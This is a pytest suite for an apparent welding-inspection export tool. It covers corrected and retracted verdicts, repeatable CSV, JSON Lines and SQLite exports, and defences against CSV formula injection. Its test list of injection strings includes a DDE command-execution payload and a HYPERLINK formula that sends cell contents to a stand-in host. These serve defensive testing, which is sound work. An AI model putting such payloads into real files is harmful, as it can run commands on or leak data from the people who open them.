"""What is given out: once each, brought up to date, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.gathered import copied, device, merged, more
from support.records import JOB, scribe

from assistant.cli import main
from assistant.errors import UsageProblem
from assistant.gather import columns
from assistant.gather.files_out import safe_cell, write_csv, write_json_lines
from assistant.gather.job import records_in
from assistant.gather.rows import shifts
from assistant.gather.sqlite_out import write_sqlite


def shift_with_tests(folder: Path, **job: str) -> Path:
    """Write a shift with one strip that stands, one that was corrected, and one taken back."""
    with scribe(folder) as writer:
        writer.begin(job={**JOB, **job})
        writer.seam(12)
        writer.judged("pass", writer.value("width", "inch and a quarter", "5/4"))
        old = writer.value("width", "inch and a half", "3/2")
        first = writer.judged("at-limit", old)
        new = writer.value("width", "inch and three eighths", "11/8")
        writer.judged("pass", new, corrects=first.seq, first=first.seq, was="at-limit")
        gone = writer.judged("fail", writer.value("width", "half an inch", "1/2"))
        writer.line("taken-back", step="verdict", entry=gone.seq, said="scratch that")
    return folder


def rows_in(*folders: Path) -> list[columns.Row]:
    """Return the rows of all tests."""
    return [row for shift in shifts(folders) for row in shift.tests.values()]


def test_a_corrected_test_shows_both(tmp_path):
    """Every verdict is a row; one counts for each strip, and the others say why they do not."""
    rows = rows_in(shift_with_tests(tmp_path / "a"))

    assert [(row["width_exact_in"], row["counts"], row["not_because"]) for row in rows] == [
        ("5/4", True, None),
        ("3/2", False, "corrected"),
        ("11/8", True, None),
        ("1/2", False, "taken back"),
    ]
    assert rows[2]["replaces"] == rows[1]["test"] == rows[2]["strip"]
    assert [row["seam"] for row in rows] == ["12"] * 4


def test_every_column_is_filled_and_told(tmp_path):
    """Rows have the columns that the schema tells, in its order, and values of their kinds."""
    kinds = {"text": str, "integer": int, "real": float, "yes-no": bool}
    (shift,) = shifts([shift_with_tests(tmp_path / "a")])
    rows = {"shift": [shift.row], "line": shift.lines.values(), "test": shift.tests.values()}

    for table, told in columns.TABLES.items():
        for row in rows[table]:
            assert list(row) == [column.name for column in told]
            for column in told:
                assert row[column.name] is None or type(row[column.name]) is kinds[column.kind]


# ---- again and again

WAYS = {"csv": write_csv, "jsonl": write_json_lines}


@pytest.mark.parametrize("way", WAYS)
def test_files_again(tmp_path, way):
    """The same export again changes nothing, and what comes later is added in its place."""
    one, two = shift_with_tests(tmp_path / "a"), device(tmp_path / "b", 2)
    out, other = tmp_path / "out", tmp_path / "other"
    assert WAYS[way](out, rows_in(one)) == (4, 0)
    once = out.read_bytes()
    assert WAYS[way](out, rows_in(one)) == (0, 0)
    assert out.read_bytes() == once
    assert WAYS[way](out, rows_in(two)) == (1, 0)
    WAYS[way](other, rows_in(two, one))

    assert other.read_bytes() == out.read_bytes()


@pytest.mark.parametrize("way", [*WAYS, "sqlite", "sql"])
def test_a_correction_since(tmp_path, way):
    """A test that was corrected since is marked so, and an older copy does not unmark it."""
    folder, out = tmp_path / "a", tmp_path / "out"
    with scribe(folder) as writer:
        writer.begin()
        first = writer.judged("pass", writer.value("width", "inch", "1"))
    early = copied(folder, tmp_path / "early")
    with scribe(folder) as writer:
        writer.run = 0
        writer.judged("fail", None, corrects=first.seq, first=first.seq, was="pass")
    marks = []
    for source in (early, folder, early):
        options = {"sql": f"sqlite:///{out}"}.get(way, str(out))
        if way == "sql":
            pytest.importorskip("sqlalchemy", reason="the extra sql is not installed")
        assert main(["export", "--record", str(source), f"--{way}", options]) == 0
        marks.append(sorted(marks_in(out, way)))

    assert marks == [[True], [False, True], [False, True]]


def marks_in(out: Path, way: str) -> list[bool]:
    """Return which tests count."""
    if way == "csv":
        with out.open(newline="", encoding="utf-8-sig") as file:
            return [row["counts"] == "yes" for row in csv.DictReader(file)]
    if way == "jsonl":
        return [json.loads(line)["counts"] for line in out.read_text("utf-8").splitlines()]
    table = "test" if way == "sqlite" else "lapcall_test"
    with sqlite3.connect(out) as database:
        found = database.execute(f"SELECT counts FROM {table} ORDER BY judged_utc").fetchall()  # noqa: S608
    return [bool(counts) for (counts,) in found]


@pytest.mark.parametrize("content", ["a,b\n1,2\n", "hello", "\x00\xff", '{"a": 1}\n'])
@pytest.mark.parametrize("write", [write_csv, write_json_lines, write_sqlite])
def test_other_files_are_left_alone(tmp_path, write, content):
    """A file that is no export is not written over."""
    path = tmp_path / "mine"
    path.write_bytes(content.encode("latin-1"))
    with pytest.raises(UsageProblem):
        write(path, [])

    assert path.read_bytes() == content.encode("latin-1")


def test_forked_and_spoiled_copies_are_one_shift(tmp_path):
    """Branches of a fork and a spoiled copy add no test twice, and the spoiled one changes none."""
    first = shift_with_tests(tmp_path / "a")
    other = more(copied(first, tmp_path / "b"), "held")
    spoiled = copied(first, tmp_path / "c")
    path = spoiled / "record.jsonl"
    path.write_bytes(path.read_bytes().replace(b'"outcome":"pass"', b'"outcome":"fail"'))
    merged(tmp_path / "job", more(first), other, spoiled)
    (shift,) = shifts(records_in(tmp_path / "job"))
    told = [(row["outcome"], row["counts"], row["sound"]) for row in shift.tests.values()]

    assert shift.row["branches"] == 3
    assert all(row["forked"] for row in shift.tests.values())
    assert [row for row in told if row[2]] == [
        ("pass", True, True),
        ("at-limit", False, True),
        ("pass", True, True),
        ("fail", False, True),
    ]
    assert not any(counts for _, counts, sound in told if not sound)


# ---- databases


def in_sqlite(path: Path) -> dict[str, list[tuple[object, ...]]]:
    """Return all rows of all tables."""
    with sqlite3.connect(path) as database:
        return {
            table: sorted(database.execute(f"SELECT * FROM {table}"))  # noqa: S608
            for table in columns.TABLES
        }


def test_sqlite_again_and_in_any_order(tmp_path):
    """Twice is once, and the order of exports makes no difference."""
    folders = [
        shift_with_tests(tmp_path / "a"),
        device(tmp_path / "b", 2),
        device(tmp_path / "c", 3),
    ]
    for name, order in (("one", folders), ("two", [*folders[::-1], *folders])):
        for folder in order:
            write_sqlite(tmp_path / name, shifts([folder]))

    assert in_sqlite(tmp_path / "one") == in_sqlite(tmp_path / "two")
    assert len(in_sqlite(tmp_path / "one")["test"]) == 6


def test_a_shorter_copy_takes_nothing_from_the_database(tmp_path):
    """What a database knows of a shift stays, when an older copy of it is exported."""
    folder = device(tmp_path / "a")
    early = copied(folder, tmp_path / "early")
    write_sqlite(tmp_path / "db", shifts([more(folder)]))
    before = in_sqlite(tmp_path / "db")
    write_sqlite(tmp_path / "db", shifts([early]))

    assert in_sqlite(tmp_path / "db") == before


# ---- formulas

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u200b=1",
    "\ufeff=1",
    "\u00a0=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid?"&A1,"open")',
    "gun;=1+1",
    "gun,=1+1",
    'gun","=1+1',
    "gun\t=1+1",
    "gun\n=1+1",
    "gun\u2028=1+1",
    "'=1+1",
    "gun|=1",
    "\x00=1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_is_a_formula(tmp_path, text):
    """A name that would be a formula comes out as text, whatever ends a cell where it is opened.

    The list follows OWASP's page on CSV injection (from memory), and adds what spreadsheets pass
    over before a formula.
    """
    folder = shift_with_tests(tmp_path / "a", welder=text, gun=text)
    write_csv(tmp_path / "out.csv", rows_in(folder))
    whole = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    for mark in ",;\t|\n":
        for row in csv.reader(whole.splitlines(), delimiter=mark):
            for cell in row:
                assert not cell.strip().lstrip('\u200b\ufeff\0",').startswith(FORMULA)


FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@given(st.text(alphabet="=+-@\t\r\n;,|\"' ab\u200b\uff1d\u2028", max_size=12))
def test_safe_cells(text):
    """No text, however put together, begins a formula at any place where a cell may begin."""
    cells = [safe_cell(text)]
    for mark in (",", ";", "|", "\t", '"', "'"):
        cells += [piece for cell in cells for piece in cell.split(mark)[:1]]
    safe = safe_cell(text)

    assert not any(cell.strip(" \u200b").startswith(FORMULA) for cell in cells)
    assert not set("\r\n\t\u2028") & set(safe)


@pytest.mark.parametrize("text", ["inch and a quarter", "gun three", "12", "first welder", "a-b"])
def test_ordinary_words_stay(text):
    """What is no formula comes out as it was."""
    assert safe_cell(text) == text


def test_nothing_looks_like_a_date(tmp_path):
    """No cell is a bare fraction, which a spreadsheet would turn into a day."""
    write_csv(tmp_path / "out.csv", rows_in(shift_with_tests(tmp_path / "a")))
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8-sig") as file:
        cells = [cell for row in csv.reader(file) for cell in row]

    assert "5/4 in" in cells
    assert "5/4" not in cells


# ---- the command


def test_the_schema_can_be_printed(capsys):
    """Every column of every table is told."""
    assert main(["export", "--columns"]) == 0
    told = capsys.readouterr().out

    assert all(
        f"{table}.{column.name} " in told
        for table, every in columns.TABLES.items()
        for column in every
    )


def test_no_record_is_told(tmp_path, capsys):
    """A folder without a record gets a sentence."""
    assert main(["export", "--record", str(tmp_path), "--csv", str(tmp_path / "x")]) == 2
    assert "There is no record" in capsys.readouterr().err
    shutil.rmtree(tmp_path)
